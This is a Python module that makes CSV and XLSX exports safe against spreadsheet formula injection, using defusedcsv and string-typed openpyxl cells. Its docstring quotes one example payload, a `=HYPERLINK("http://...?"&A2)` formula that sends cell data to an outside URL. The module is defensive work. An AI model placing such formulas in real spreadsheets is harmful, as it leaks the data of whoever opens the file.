"""Spreadsheet files that are safe to open: every CSV and XLSX the product writes goes through here.

A value that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula by
spreadsheet programs (formula injection: a decree reference or a name typed as
`=HYPERLINK("http://...?"&A2)` would run when an officer opens the file). CSV values are escaped by
defusedcsv (a leading quote), with tab and carriage return added to its list; numbers stay numbers.
XLSX cells holding text are always typed as text (`s`), so openpyxl never writes them as formulas;
the text itself is kept as it was recorded.
"""

from __future__ import annotations

from typing import IO, TYPE_CHECKING, Any

from defusedcsv import csv as defused
from openpyxl.cell import WriteOnlyCell

if TYPE_CHECKING:
    from collections.abc import Iterable

    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
    from openpyxl.worksheet.worksheet import Worksheet

_LEADING = ("\t", "\r")
"""Leading characters defusedcsv leaves alone that spreadsheets still act on."""


def csv_safe(value: Any) -> Any:
    """A CSV value that no spreadsheet reads as a formula (numbers and None pass unchanged)."""
    if isinstance(value, str) and value.startswith(_LEADING):
        return "'" + value
    return value


class SafeCsvWriter:
    """`csv.writer` with every value neutralised (defusedcsv, plus tab and carriage return).

    Lines end in CRLF (RFC 4180), so that a value holding a carriage return is quoted, never split.
    """

    def __init__(self, handle: IO[str]) -> None:
        self._writer = defused.writer(handle, lineterminator="\r\n")

    def writerow(self, row: Iterable[Any]) -> None:
        """Write one row."""
        self._writer.writerow([csv_safe(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write every row."""
        for row in rows:
            self.writerow(row)


def text_cell(sheet: WriteOnlyWorksheet | Worksheet, value: Any) -> Cell:
    """A write-only cell; text is typed as text (never a formula), other values as they are."""
    cell: Cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
    return cell
